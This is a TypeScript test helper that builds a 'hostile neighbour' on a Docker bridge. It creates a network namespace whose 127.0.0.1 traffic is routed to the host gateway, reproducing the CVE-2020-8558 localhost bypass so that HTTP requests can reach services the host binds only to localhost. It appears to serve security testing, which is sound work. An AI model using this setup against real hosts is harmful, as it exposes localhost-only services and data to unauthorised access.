import { randomBytes } from 'node:crypto';
import { execa } from 'execa';

/**
 * A hostile neighbour on a Docker bridge: a network namespace plugged into the bridge
 * like a container, with an address of the bridge's subnet that Docker never hands out
 * (it counts up from .2), and 127.0.0.1 routed to the bridge's gateway instead of its
 * own loopback. What it sends to 127.0.0.1 arrives at this host on the bridge, as
 * CVE-2020-8558 describes.
 */
export interface BridgeAttacker {
  name: string;
  address: string;
  gateway: string;
  /** GET http://<host>:<port>/ from inside: the body, or undefined when nothing answered within `timeoutMs`. */
  get(host: string, port: number, timeoutMs?: number): Promise<string | undefined>;
  remove(): Promise<void>;
}

const toInt = (ip: string) => ip.split('.').reduce((n, octet) => n * 256 + Number(octet), 0);
const toIp = (n: number) => [24, 16, 8, 0].map((shift) => Math.floor(n / 2 ** shift) % 256).join('.');

/** The bridge network's subnet and gateway, from `docker network inspect`. */
export async function bridgeNetwork(network = 'bridge'): Promise<{ subnet: string; gateway: string; bridge: string }> {
  const { stdout } = await execa('docker', ['network', 'inspect', network, '--format',
    '{{(index .IPAM.Config 0).Subnet}} {{(index .IPAM.Config 0).Gateway}} {{index .Options "com.docker.network.bridge.name"}}']);
  const [subnet = '', gateway = '', bridge = ''] = stdout.trim().split(' ');
  return { subnet, gateway, bridge: bridge || 'docker0' };
}

/** The subnet's fifth address from the top (172.17.255.250 in 172.17.0.0/16). */
export function highAddress(subnet: string): { address: string; prefix: number } {
  const [base = '', bits = ''] = subnet.split('/');
  const prefix = Number(bits);
  const size = 2 ** (32 - prefix);
  const network = toInt(base) - (toInt(base) % size);
  return { address: toIp(network + size - 6), prefix };
}

// Runs inside the namespace with the host's node: one GET, the body on stdout.
const GET = `
const [host, port, timeout] = process.argv.slice(1);
const req = require('node:http').get({ host, port: Number(port), path: '/', timeout: Number(timeout), agent: false }, (res) => {
  let body = '';
  res.setEncoding('utf8').on('data', (chunk) => { body += chunk; }).on('end', () => process.stdout.write(body));
});
req.on('timeout', () => req.destroy(new Error('timed out')));
req.on('error', (error) => { process.stderr.write(String(error)); process.exitCode = 1; });
`;

export async function createBridgeAttacker(network = 'bridge'): Promise<BridgeAttacker> {
  const { subnet, gateway, bridge } = await bridgeNetwork(network);
  const { address, prefix } = highAddress(subnet);
  const id = randomBytes(3).toString('hex');
  const name = `hte2e-d-atk-${id}`;
  const [hostSide, inside] = [`hvd${id}h`, `hvd${id}a`];
  const ip = (...args: string[]) => execa('ip', args);
  const inNs = (...args: string[]) => execa('ip', ['netns', 'exec', name, ...args]);
  await ip('netns', 'add', name);
  try {
    await ip('link', 'add', hostSide, 'type', 'veth', 'peer', 'name', inside);
    await ip('link', 'set', inside, 'netns', name);
    await ip('link', 'set', hostSide, 'master', bridge);
    await ip('link', 'set', hostSide, 'up');
    await ip('-n', name, 'link', 'set', 'lo', 'up');
    await ip('-n', name, 'addr', 'add', `${address}/${prefix}`, 'dev', inside);
    await ip('-n', name, 'link', 'set', inside, 'up');
    // Its own loopback no longer claims 127.0.0.1: the gateway (this host) gets it. The
    // address goes too, or answers from 127.0.0.1 would count as martians (a local source).
    await ip('-n', name, 'addr', 'del', '127.0.0.1/8', 'dev', 'lo');
    for (const route of ['127.0.0.1', '127.0.0.0/8']) await ip('-n', name, 'route', 'del', 'local', route, 'table', 'local').catch(() => {});
    await ip('-n', name, 'route', 'add', '127.0.0.1/32', 'via', gateway, 'dev', inside);
    // Answers come back from 127.0.0.1, a martian source unless route_localnet allows it.
    await inNs('sysctl', '-qw', `net.ipv4.conf.${inside}.route_localnet=1`);
  } catch (error) {
    await ip('netns', 'del', name).catch(() => {});
    throw error;
  }
  return {
    name,
    address,
    gateway,
    async get(host, port, timeoutMs = 3000) {
      const result = await inNs(process.execPath, '-e', GET, host, String(port), String(timeoutMs)).catch(() => undefined);
      return result?.stdout;
    },
    // Deleting the namespace deletes the veth pair with it.
    remove: async () => { await ip('netns', 'del', name).catch(() => {}); },
  };
}
